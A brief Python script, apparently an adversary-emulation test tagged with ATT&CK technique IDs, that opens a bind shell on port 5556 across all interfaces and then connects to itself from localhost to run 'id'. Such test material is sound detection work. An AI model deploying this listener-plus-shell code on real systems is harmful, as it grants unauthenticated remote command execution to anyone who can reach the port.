#!/usr/bin/env python3
# title: Python waits for a connection and puts a shell behind it
# technique: T1059.006 T1059.004
# needs: python3 bash

import os, socket, subprocess, threading
listener = socket.socket()
listener.bind(("0.0.0.0", 5556))
listener.listen(1)
def visit():
    s = socket.create_connection(("127.0.0.1", 5556))
    s.sendall(b"id\nexit\n")
    s.recv(4096)
threading.Thread(target=visit).start()
s, _ = listener.accept()
subprocess.call(["/bin/sh"], stdin=s, stdout=s, stderr=s)
